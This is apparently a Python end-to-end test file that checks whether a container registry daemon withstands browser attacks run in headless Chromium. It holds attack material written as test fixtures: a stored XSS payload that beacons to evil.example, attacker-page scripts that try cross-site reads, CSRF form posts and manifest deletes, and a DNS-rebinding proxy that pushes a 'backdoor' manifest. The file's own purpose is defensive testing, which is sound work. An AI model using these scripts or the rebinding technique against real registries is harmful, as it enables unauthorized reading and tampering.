"""The attacker is a web page in a real browser, Chromium: what the page gets it to do, and what it then may read.

One run of the browser shows all pages: one of the attacker's site, which attacks across sites; one that rebinds its
name to this daemon; and that of a registry UI in CORS_ORIGINS. Each reports what it achieved.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from attrs import frozen

from tests.e2e.harness.client_factory import ProcessGroup
from tests.e2e.harness.http_client import request_directly
from tests.e2e.harness.http_server import HTTPExchange, StubServer
from tests.e2e.harness.images import TypedContent, sha256_digest
from tests.e2e.harness.process import BackgroundProcess, wait_until
from tests.e2e.harness.registry_daemon import HOSTED_REGISTRY_HOST, RegistryDaemon
from tests.e2e.harness.threaded_server import ThreadedServer
from tests.hostile.conftest import HostileNetwork
from tests.hostile.test_web_pages import BLOB, DIGEST, MANIFEST, MANIFEST_TYPE, send

pytestmark = pytest.mark.slow

EVIL_SITE, UI_SITE = "evil.example", "ui.example"
_REPORTS = ("cross-site", "rebinding", "ui")

# The page that somebody pushed. Its script would act in the registry's origin.
_STORED_PAGE = b"<!doctype html><script>new Image().src = 'http://evil.example:%d/xss'</script>"

_COMMON_SCRIPT = """
const results = {};
async function attempt(name, action) {
    try { results[name] = String(await action()); } catch (error) { results[name] = `failed: ${error}`; }
}
function loaded(element, attributes) {
    const done = new Promise(resolve => {
        element.onload = () => resolve("load");
        element.onerror = () => resolve("error");
    });
    Object.assign(element, attributes);
    document.body.append(element);
    return Promise.race([done, new Promise(resolve => setTimeout(() => resolve("time-out"), 3000))]);
}
function report(name) {
    return fetch(`${SITE}/report/${name}`, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
}
"""

_CROSS_SITE_SCRIPT = """
(async () => {
    const frames = [
        loaded(document.createElement("iframe"), {src: REBINDING}),
        loaded(document.createElement("iframe"), {src: UI}),
    ];
    const pull = `${MIRROR}/v2/team/app/manifests/latest?ns=good.test`;
    await attempt("catalog", async () => (await fetch(`${REGISTRY}/v2/_catalog`)).text());
    await attempt("health", async () => (await fetch(`${REGISTRY}/healthz`)).text());
    await attempt("blob", async () => (await fetch(
        `${REGISTRY}/v2/evil/blobs/uploads/?digest=${DIGEST}`, {method: "POST", mode: "no-cors", body: BLOB})).type);
    await attempt("session", async () => (await fetch(
        `${REGISTRY}/v2/evil/blobs/uploads/`, {method: "POST", mode: "no-cors", referrerPolicy: "no-referrer"})).type);
    await attempt("form", async () => {
        const frame = document.createElement("iframe"), form = document.createElement("form");
        Object.assign(form, {method: "POST", action: `${REGISTRY}/v2/form/blobs/uploads/`, target: "form"});
        document.body.append(form);
        const done = loaded(frame, {name: "form"});
        form.submit();
        return await done;
    });
    await attempt("delete", async () => (await fetch(
        `${REGISTRY}/v2/prod/app/manifests/latest`, {method: "DELETE"})).status);
    await attempt("image", () => loaded(document.createElement("img"), {src: pull}));
    await attempt("image without a referrer", () => loaded(
        document.createElement("img"), {referrerPolicy: "no-referrer", src: `${pull}&a`}));
    await attempt("script", () => loaded(
        document.createElement("script"), {referrerPolicy: "no-referrer", src: `${pull}&b`}));
    await attempt("fetch", async () => (await fetch(`${pull}&c`, {
        mode: "no-cors", referrerPolicy: "no-referrer", headers: {Accept: "application/vnd.oci.image.manifest.v1+json"},
    })).type);
    const page = `${REGISTRY}/v2/stored/page/manifests/latest`;
    await attempt("stored page in a frame", () => loaded(
        document.createElement("iframe"), {referrerPolicy: "no-referrer", src: page}));
    await attempt("stored page in a window", async () => {
        open(page, "_blank", "noreferrer");
        return await loaded(document.createElement("iframe"), {src: `${page}?again`});
    });
    await Promise.all(frames);
    await report("cross-site");
})();
"""

_REBINDING_SCRIPT = """
(async () => {
    await fetch("/rebind");  // from now on, the name leads to the daemon
    const manifest = "/v2/prod/app/manifests/latest";
    await attempt("catalog", async () => (await fetch("/v2/_catalog")).status);
    await attempt("pull", async () => (await fetch(manifest)).status);
    await attempt("push", async () => (await fetch("/v2/prod/app/manifests/backdoor", {
        method: "PUT", headers: {"Content-Type": "application/vnd.example+json"}, body: MANIFEST})).status);
    await attempt("delete", async () => (await fetch(manifest, {method: "DELETE"})).status);
    await attempt("metrics", async () => (await fetch("/metrics")).status);
    await attempt("health", async () => (await fetch("/healthz")).status);
    await report("rebinding");
})();
"""

_UI_SCRIPT = """
(async () => {
    const manifest = `${REGISTRY}/v2/ui/app/manifests/latest`;
    const login = {headers: {Authorization: "Basic YTpi"}, credentials: "include"};
    await attempt("catalog", async () => (await fetch(`${REGISTRY}/v2/_catalog`, login)).text());
    await attempt("digest", async () => (await fetch(manifest)).headers.get("Docker-Content-Digest"));
    await attempt("delete", async () => (await fetch(manifest, {method: "DELETE", ...login})).status);
    await report("ui");
})();
"""


class AttackerSite(StubServer):
    """The site of all pages. `scripts` are those of the pages by path."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: dict[str, str] = {}
        self.constants: dict[str, str] = {}
        self.reports: dict[str, dict[str, str]] = {}
        self.rebound = threading.Event()

    def handle(self, exchange: HTTPExchange) -> None:
        body = b"".join(exchange.read_body())
        exchange.close_after_response()
        fields = {"Content-Type": "text/html", "Connection": "close"}  # the next connection may lead to the daemon
        if exchange.path in self.scripts:
            constants = "".join(f"const {name} = {json.dumps(value)};" for name, value in self.constants.items())
            script = constants + _COMMON_SCRIPT + self.scripts[exchange.path]
            exchange.respond(200, fields, f"<!doctype html><body><script>{script}</script>".encode())
        elif exchange.path == "/rebind":
            self.rebound.set()
            exchange.respond(204, {"Connection": "close"})
        elif exchange.path.startswith("/report/"):
            self.reports[exchange.path.rpartition("/")[2]] = json.loads(body)
            exchange.respond(204, {"Connection": "close"})
        else:
            exchange.respond(404, fields)


class ReboundAddress(ThreadedServer):
    """The address of the attacker's name: his site, and from its request of /rebind on the daemon."""

    def __init__(self, site: AttackerSite, daemon_port: int) -> None:
        super().__init__()
        self._site = site
        self._daemon_port = daemon_port

    def serve(self, client: socket.socket) -> None:
        port = self._daemon_port if self._site.rebound.is_set() else self._site.port
        with client, socket.create_connection(("127.0.0.1", port)) as server:
            threading.Thread(target=self._copy, args=(client, server), daemon=True).start()
            self._copy(server, client)

    @staticmethod
    def _copy(source: socket.socket, destination: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                destination.sendall(data)
            destination.shutdown(socket.SHUT_WR)


@frozen
class BrowserRun:
    """The reports of the pages, and the servers as they are afterwards."""

    reports: dict[str, dict[str, str]]
    site: AttackerSite
    network: HostileNetwork
    daemon: RegistryDaemon

    def catalog(self) -> list[str]:
        repositories = send(self.daemon.http_port, "GET", "/v2/_catalog").json["repositories"]
        assert isinstance(repositories, list)
        return repositories

    def tags(self, name: str) -> list[str]:
        return list(send(self.daemon.http_port, "GET", f"/v2/{name}/tags/list").json["tags"] or [])


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserRun]:
    """Return the outcome of the one run of the browser."""
    browser = shutil.which("chromium")
    if browser is None:
        pytest.skip("chromium is not installed (Debian package chromium; `make test` installs it if root runs it)")
    folder, group = tmp_path_factory.mktemp("browser"), ProcessGroup()
    network, site = HostileNetwork(folder / "network"), AttackerSite()
    network.good.put_manifest("team/app", "latest", TypedContent(MANIFEST_TYPE["Content-Type"], MANIFEST))
    site.start()
    settings = {**network.settings, "WORKERS": "2", "CORS_ORIGINS": f"http://{UI_SITE}:{site.port}"}
    daemon = RegistryDaemon(folder / "daemon", settings)
    rebound_address = ReboundAddress(site, daemon.http_port)
    rebound_address.start()
    try:
        group.add(daemon)
        daemon.start()
        _fill_registry(daemon, _STORED_PAGE % site.port)
        site.scripts = {"/": _CROSS_SITE_SCRIPT, "/rebinding": _REBINDING_SCRIPT, "/ui": _UI_SCRIPT}
        site.constants = {
            "SITE": f"http://{EVIL_SITE}:{site.port}",
            "UI": f"http://{UI_SITE}:{site.port}/ui",
            "REBINDING": f"http://{EVIL_SITE}:{rebound_address.port}/rebinding",
            "REGISTRY": f"http://{HOSTED_REGISTRY_HOST}:{daemon.http_port}",
            "MIRROR": f"http://{HOSTED_REGISTRY_HOST}:{daemon.port}",
            "MANIFEST": MANIFEST.decode(),
            "DIGEST": DIGEST,
            "BLOB": BLOB.decode(),
        }
        _show(browser, f"http://{EVIL_SITE}:{site.port}/", site, folder)
        yield BrowserRun(site.reports, site, network, daemon)
        daemon.check_log([])
    finally:
        group.stop()
        rebound_address.stop()
        site.stop()
        network.stop()


def _fill_registry(daemon: RegistryDaemon, page: bytes) -> None:
    """Push images as honest clients do, and a page of a time when the registry took every media type."""
    page_type = b"application/vnd.page+json"
    for name, media_type, content in (
        ("prod/app", MANIFEST_TYPE["Content-Type"], MANIFEST),
        ("ui/app", MANIFEST_TYPE["Content-Type"], MANIFEST),
        ("stored/page", page_type.decode(), page),
    ):
        target = f"/v2/{name}/manifests/latest"
        assert send(daemon.http_port, "PUT", target, {"Content-Type": media_type}, content).status == 201
    files = [path for path in (daemon.state_folder / "registry").rglob("*") if path.is_file()]
    (type_file,) = [file for file in files if file.read_bytes() == page_type]
    type_file.write_bytes(b"text/html")


def _show(browser: str, url: str, site: AttackerSite, folder: Path) -> None:
    """Show `url` in the browser until all pages have reported."""
    names = (EVIL_SITE, UI_SITE, HOSTED_REGISTRY_HOST)
    argv = [
        browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-popup-blocking",
        "--disable-features=HttpsUpgrades,HttpsFirstBalancedModeAutoEnable", "--no-proxy-server",
        f"--user-data-dir={folder / 'profile'}",
        f"--host-resolver-rules={', '.join(f'MAP {name} 127.0.0.1' for name in names)}",
        url,
    ]  # fmt: skip
    environment = {"PATH": os.environ["PATH"], "HOME": str(folder)}
    process = BackgroundProcess(argv, folder / "chromium.log", environment, folder)
    process.launch()
    try:
        wait_until(
            lambda: not process.running or set(site.reports) == set(_REPORTS), "the reports of the pages", timeout=60
        )
        assert set(site.reports) == set(_REPORTS), process.output_text[-4000:]
    finally:
        process.stop()


def test_a_rebound_name_reads_and_changes_nothing(run: BrowserRun) -> None:
    results = run.reports["rebinding"]
    assert results.pop("health") == "200"  # the page did reach the daemon
    assert results == dict.fromkeys(("catalog", "pull", "push", "delete", "metrics"), "421")
    assert run.tags("prod/app") == ["latest"]


def test_a_page_of_another_site_reads_and_changes_nothing(run: BrowserRun) -> None:
    results = run.reports["cross-site"]
    for name in ("catalog", "health", "delete"):
        assert results[name].startswith("failed: TypeError"), name
    for name in ("blob", "session"):
        assert results[name] in ("opaque", "failed: TypeError: Failed to fetch"), name
    assert "form" in results
    assert not {"evil", "form"} & set(run.catalog())
    assert not list((run.daemon.state_folder / "registry").rglob("_uploads/*"))
    assert send(run.daemon.http_port, "GET", f"/v2/evil/blobs/{DIGEST}").status == 404


def test_images_and_scripts_of_a_page_are_no_pulls(run: BrowserRun) -> None:
    results = run.reports["cross-site"]
    assert [results[name] for name in ("image", "image without a referrer", "script")] == ["error"] * 3
    assert "fetch" in results
    assert run.network.good.requests == []


def test_a_stored_page_runs_no_script(run: BrowserRun) -> None:
    assert {"stored page in a frame", "stored page in a window"} <= set(run.reports["cross-site"])
    assert [request.path for request in run.site.requests if request.path == "/xss"] == []
    response = request_directly("GET", f"http://{run.daemon.http_address}/v2/stored/page/manifests/latest")
    assert (response.status, response.headers["content-type"]) == (200, "application/octet-stream")


def test_the_page_of_an_allowed_origin_uses_the_registry(run: BrowserRun) -> None:
    results = run.reports["ui"]
    assert set(json.loads(results["catalog"])["repositories"]) == {"prod/app", "stored/page", "ui/app"}
    assert (results["digest"], results["delete"]) == (sha256_digest(MANIFEST), "202")
    assert run.tags("ui/app") == []
